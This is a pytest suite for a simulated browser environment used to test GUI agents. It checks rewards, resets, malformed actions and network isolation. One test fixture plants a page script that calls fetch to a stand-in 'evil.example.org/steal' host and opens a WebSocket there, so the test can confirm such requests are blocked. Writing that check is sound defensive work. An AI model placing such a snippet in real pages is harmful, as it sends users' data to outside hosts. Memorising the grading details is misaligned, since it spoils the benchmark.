"""GuiWebEnv: spaces, oracle success, judging, malformed actions, hermetic network."""

from __future__ import annotations

import json

import gymnasium as gym
import numpy as np
import pytest
from gymnasium.utils.env_checker import check_env

import gui_envs  # noqa: F401
from benchmarks.judge_attacks import blind_policies
from gui_envs.browser.observation import parse_elements
from gui_envs.browser.site import Request, Response
from gui_envs.schema.actions import Action
from gui_envs.schema.privileged import privileged_of
from gui_envs.web.env import GuiWebEnv, UnknownTaskError
from tests.oracle_helpers import run_oracle


def test_check_env_guiweb() -> None:
    env = gym.make("GuiWeb-v0")
    try:
        check_env(env.unwrapped, skip_render_check=True)
    finally:
        env.close()


def test_observation_contents(web_env: GuiWebEnv) -> None:
    obs, info = web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 3})
    assert obs["screenshot"].shape == (720, 1280, 3) and obs["screenshot"].dtype == np.uint8
    assert obs["screenshot"].std() > 5  # a rendered page, not a blank frame
    elements = parse_elements(obs["elements"])
    assert elements and {"id", "role", "text", "value", "bbox", "clickable"} <= set(elements[0])
    # Regression: records carried an ARIA role but no tag or input type.
    search = next(e for e in elements if e["tag"] == "input" and e["text"] == "Search")
    assert search["type"] == "text" and search["options"] == []
    assert all(e["type"] == "" for e in elements if e["tag"] != "input")
    assert obs["url"] == "http://shop.guigym.test/" and obs["step"] == 0
    assert privileged_of(web_env)["target_bbox"] is not None and info["task"] == "shop.add_to_wishlist"
    assert "target_bbox" not in info and "reference_answer" not in info
    assert web_env.observation_space.contains(obs)
    ids = [e["id"] for e in elements]
    obs2 = web_env.step(Action.scroll("down", 0))[0]  # same page: ids are stable
    assert [e["id"] for e in parse_elements(obs2["elements"])] == ids


@pytest.mark.parametrize(
    "task", ["shop.add_to_wishlist", "shop.add_to_cart", "shop.calories", "shop.wishlist_count", "shop.add_with_options"]
)
def test_oracle_solves(web_env: GuiWebEnv, task: str) -> None:
    total, info = run_oracle(web_env, task, seed=5)
    assert info["success"] and total == pytest.approx(1.0)


def test_seeded_repeat(web_env: GuiWebEnv) -> None:
    a, ia = web_env.reset(options={"task": "shop.price", "seed": 11})
    b, ib = web_env.reset(options={"task": "shop.price", "seed": 11})
    assert ia["instruction"] == ib["instruction"] and a["elements"] == b["elements"]
    assert privileged_of(web_env)["reference_answer"] == web_env.task.reference_answer
    c, ic = web_env.reset(seed=4)
    d, id_ = web_env.reset(seed=4)
    assert ic["task"] == id_["task"] and ic["instruction"] == id_["instruction"]


def test_reset_restores_state(web_env: GuiWebEnv) -> None:
    run_oracle(web_env, "shop.add_to_wishlist", seed=2)
    assert web_env.states["shop"].query("SELECT * FROM wishlist")
    web_env.reset(options={"task": "shop.open_wishlist", "seed": 2})
    assert not web_env.states["shop"].query("SELECT * FROM wishlist")


def test_wrong_answers_and_early_stop_score_zero(web_env: GuiWebEnv) -> None:
    _, info = web_env.reset(options={"task": "shop.calories", "seed": 1})
    *_, reward, terminated, _, info = web_env.step(Action.stop(answer="1"))
    assert terminated and reward == 0.0 and not info["success"]
    web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 1})
    *_, reward, terminated, _, info = web_env.step(Action.stop(answer="done, it is in the wishlist"))
    assert terminated and reward == 0.0 and not info["success"]  # words alone never count
    web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 1})
    *_, reward, _, _, info = web_env.step(Action.stop(status="infeasible"))
    assert reward == 0.0


def test_random_agent_judged_zero(web_env: GuiWebEnv) -> None:
    rng = np.random.default_rng(0)
    for seed, task in enumerate(["shop.add_to_cart_qty", "shop.buy", "shop.calories", "shop.cancel_order"]):
        web_env.reset(options={"task": task, "seed": seed})
        for _ in range(6):
            action = Action.click(float(rng.uniform(0, 1280)), float(rng.uniform(0, 720)))
            *_, terminated, truncated, info = web_env.step(action)
            if terminated:
                break
        if not terminated:
            *_, reward, _, _, info = web_env.step(Action.stop(answer=str(rng.integers(100))))
        # A random clicker cannot place the exact order / find the answer; if it ever did, the state says so.
        assert info["success"] == (
            web_env.task.evaluate(None) == 1.0 and not web_env.task.requires_stop
        )


def test_malformed_and_invalid_actions_are_noops(web_env: GuiWebEnv) -> None:
    web_env.reset(options={"task": "shop.open_wishlist", "seed": 0})
    for bad in ["not an action", '{"type": "click"}', json.dumps({"type": "fly"}), "<answer>[{]</answer>"]:
        obs, reward, terminated, truncated, info = web_env.step(bad)
        assert info["action_error"] and reward == pytest.approx(-0.01) and not terminated
    _, reward, _, _, info = web_env.step(Action.click(5000, 10))
    assert "outside" in info["action_error"] and reward < 0
    _, _, _, _, info = web_env.step(Action.click_element("no-such-id"))
    assert "no element" in info["action_error"]
    _, _, _, _, info = web_env.step(Action.navigate("url", url="https://example.com/"))
    assert "blocked" in info["action_error"] and info["url"].startswith("http://shop.guigym.test")
    _, _, _, _, info = web_env.step(Action.press("nosuchkey"))
    assert "unknown key" in info["action_error"]
    # GUI-R1's JSON works too, and reaches the wishlist
    target = privileged_of(web_env)["target_bbox"]
    text = f'[{{"action": "click", "point": [{(target[0] + target[2]) // 2}, {(target[1] + target[3]) // 2}], "input_text": ""}}]'
    _, reward, terminated, _, info = web_env.step(text)
    assert info["action_error"] is None and terminated and reward == 1.0


def test_unknown_task_suggests(web_env: GuiWebEnv) -> None:
    with pytest.raises(UnknownTaskError, match="shop.add_to_wishlist"):
        web_env.reset(options={"task": "shop.add_to_wishlst"})


class _LeakyEnv(GuiWebEnv):
    """A GuiWebEnv with one extra origin serving a page that tries to reach the internet."""

    def _route_table(self):  # type: ignore[no-untyped-def]
        table = super()._route_table()
        page = (
            "<!doctype html><img src='https://example.com/pixel.png'>"
            "<script>fetch('http://evil.example.org/steal').catch(() => {});"
            "try { new WebSocket('ws://evil.example.org/ws'); } catch (e) {}</script><p>leaky</p>"
        )
        table["http://leaky.guigym.test"] = lambda request: Response(body=page)
        return table


def test_outside_requests_are_blocked() -> None:
    with _LeakyEnv(sites=("shop",)) as env:
        env.reset(options={"task": "shop.open_wishlist", "seed": 0})
        _, _, _, _, info = env.step(Action.navigate("url", url="http://leaky.guigym.test/"))
        _, _, _, _, info2 = env.step(
            Action.wait(0.3) if hasattr(Action, "wait") else Action("wait", duration=0.3)
        )
        blocked = info["blocked_requests"] + info2["blocked_requests"]
        assert any("example.com/pixel.png" in u for u in blocked)
        assert any("evil.example.org/steal" in u for u in blocked)
        assert info["action_error"] is None and "leaky" in info["url"]
    assert isinstance(Request.from_url("GET", "http://x/a?b=1").query, dict)


def test_reset_starts_a_fresh_history(web_env: GuiWebEnv) -> None:
    # Play into an earlier episode, then reset: "back" on the new start page must not reach the old pages.
    web_env.reset(options={"task": "shop.add_to_wishlist", "seed": 3})
    for _ in range(3):
        web_env.step(web_env.oracle_action())
    obs, _ = web_env.reset(options={"task": "shop.open_wishlist", "seed": 1})
    start = obs["url"]
    obs, _, _, _, info = web_env.step(Action.navigate("back"))
    assert info["action_error"] is None
    assert obs["url"] == start


def test_a_prepared_reset_is_the_episode_a_reset_by_name_shows(web_env: GuiWebEnv) -> None:
    """reset() swaps in the episode prepared while the agent acted (gui_envs.browser.prefetch): the task the env's
    generator draws, the page a reset by name shows, no history behind it, no other page beside it."""
    web_env.reset()  # the shared env's last resets were named: after two, nothing is prepared (see ResetPreparer)
    web_env.reset(seed=5)
    web_env.step(Action.navigate("url", url="http://shop.guigym.test/cart"))
    cls, seed = web_env._next_episode()
    spare = web_env._resets.pair.sides[1]
    for _ in range(50):  # each call lets one background step run
        if spare.done == 3:
            break
        web_env._session.call(lambda h: None)
    assert spare.key == (cls.name, seed) and spare.done == 3
    obs, info = web_env.reset()
    assert (info["task"], info["task_seed"]) == (cls.name, seed) and web_env._resets.pair.active is spare
    assert web_env._session.call(lambda h: len(h.context.pages)) == 1
    back, *_ = web_env.step(Action.navigate("back"))
    assert back["url"] == obs["url"]
    named, _ = web_env.reset(options={"task": cls.name, "seed": seed})  # not the guess: built in the foreground
    assert (named["instruction"], named["elements"], named["url"]) == (obs["instruction"], obs["elements"], obs["url"])


def _press(env: GuiWebEnv, obs: dict, label: str) -> tuple:
    button = next(e for e in parse_elements(obs["elements"]) if e["text"] == label and e["clickable"])
    return env.step(Action.click_element(button["id"]))


def test_an_extra_item_in_the_cart_fails_in_chromium(web_env: GuiWebEnv) -> None:
    """Issue 23: adding another product before the asked one used to pass shop.add_to_cart (the judge only
    asked whether the target was in the cart). The same clicks on the target alone still pass."""
    home = "http://shop.guigym.test"
    seed = next(s for s in range(20) if blind_policies.build_task("web", "shop.add_to_cart", s).feasible)
    web_env.reset(options={"task": "shop.add_to_cart", "seed": seed})
    target = web_env.task.p["id"]
    other = web_env.task.one("SELECT MIN(id) FROM products WHERE id != ?", (target,))[0]  # one still in the shop
    for pid in (other, target):
        obs, *_ = web_env.step(Action.navigate("url", url=f"{home}/product/{pid}"))
        obs, reward, terminated, _, info = _press(web_env, obs, "Add to cart")
    assert not terminated and not info["success"]
    _, reward, terminated, _, info = web_env.step(Action.stop())
    assert terminated and reward == 0.0 and not info["success"]
    web_env.reset(options={"task": "shop.add_to_cart", "seed": seed})
    obs, *_ = web_env.step(Action.navigate("url", url=f"{home}/product/{target}"))
    _, reward, terminated, _, info = _press(web_env, obs, "Add to cart")
    assert terminated and reward == 1.0 and info["success"]


def test_opening_another_post_first_fails_in_chromium(web_env: GuiWebEnv) -> None:
    """forum.open_post passes only when the first post page opened is the asked one (a sweep's blind guess)."""
    home = "http://forum.guigym.test"
    web_env.reset(options={"task": "forum.open_post", "seed": 2})
    target = web_env.task.p["id"]
    other = 1 if target != 1 else 2
    web_env.step(Action.navigate("url", url=f"{home}/post/{other}"))
    _, _, terminated, _, info = web_env.step(Action.navigate("url", url=f"{home}/post/{target}"))
    assert not terminated and not info["success"]
    web_env.reset(options={"task": "forum.open_post", "seed": 2})
    _, reward, terminated, _, info = web_env.step(Action.navigate("url", url=f"{home}/post/{target}"))
    assert terminated and reward == 1.0 and info["success"]


def test_upvote_all_by_user_on_a_seed_without_a_short_author(web_env: GuiWebEnv) -> None:
    # Regression: seed 45 has no author with 2-4 posts, and reset raised LookupError.
    total, info = run_oracle(web_env, "forum.upvote_all_by_user", seed=45)
    assert info["success"] and total == pytest.approx(1.0)


def test_proximity_rewards_grade_guiweb_steps_as_planning() -> None:
    from gui_envs.reward_wrappers.proximity import ProximityRewardWrapper

    env = gym.make("GuiWeb-v0")  # no browser until the first reset
    try:
        assert ProximityRewardWrapper(env, planning=True).planning
    finally:
        env.close()
